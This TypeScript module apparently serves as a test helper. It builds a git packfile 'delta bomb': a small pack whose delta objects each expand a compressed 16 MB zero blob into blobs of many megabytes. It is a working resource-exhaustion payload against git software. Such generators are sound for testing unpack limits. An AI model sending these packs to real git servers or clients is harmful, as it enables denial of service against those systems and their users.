import { createHash } from 'node:crypto'
import { deflateSync } from 'node:zlib'

const baseBytes = 0xff_ff_ff
const ofsDelta = 6
const blob = 3

/**
 * A pack of a blob of 16 MB of zeros and of deltas on it, each of a hundred bytes, which make blobs of so many
 * megabytes: gitformat-pack(5) tells how.
 */
export function deltaBomb({ objects, megabytes }: { objects: number; megabytes: number }): Buffer {
  const copies = Math.ceil((megabytes * 1024 * 1024) / baseBytes)
  const header = Buffer.alloc(12)
  header.write('PACK', 'latin1')
  header.writeUInt32BE(2, 4)
  header.writeUInt32BE(objects + 1, 8)
  const parts = [header, entryHead(blob, baseBytes), deflateSync(Buffer.alloc(baseBytes))]
  const base = header.length
  let at = parts.reduce((sum, part) => sum + part.length, 0)
  for (let n = 1; n <= objects; n += 1) {
    // A last byte that differs makes each of them an object of its own.
    const delta = Buffer.concat([
      varint(baseBytes),
      varint(copies * baseBytes + 1),
      ...Array.from({ length: copies }, () => Buffer.from([0xf0, 0xff, 0xff, 0xff])),
      Buffer.from([1, n]),
    ])
    const entry = Buffer.concat([entryHead(ofsDelta, delta.length), offset(at - base), deflateSync(delta)])
    parts.push(entry)
    at += entry.length
  }
  const pack = Buffer.concat(parts)
  return Buffer.concat([pack, createHash('sha1').update(pack).digest()])
}

/** Type and size: four bits of the size first, then seven at a time. */
function entryHead(type: number, size: number): Buffer {
  const bytes: number[] = []
  let [byte, rest] = [(type << 4) | (size & 15), size >>> 4]
  while (rest > 0) {
    bytes.push(byte | 0x80)
    byte = rest & 0x7f
    rest >>>= 7
  }
  return Buffer.from([...bytes, byte])
}

/** Seven bits at a time, the lowest first. */
function varint(value: number): Buffer {
  const bytes: number[] = []
  let rest = value
  while (rest > 0x7f) {
    bytes.push((rest % 0x80) | 0x80)
    rest = Math.floor(rest / 0x80)
  }
  return Buffer.from([...bytes, rest])
}

/** How far back the base lies: seven bits at a time, the highest first, each but the last less one. */
function offset(distance: number): Buffer {
  const bytes = [distance & 0x7f]
  let rest = distance >>> 7
  while (rest > 0) {
    rest -= 1
    bytes.unshift(0x80 | (rest & 0x7f))
    rest >>>= 7
  }
  return Buffer.from(bytes)
}
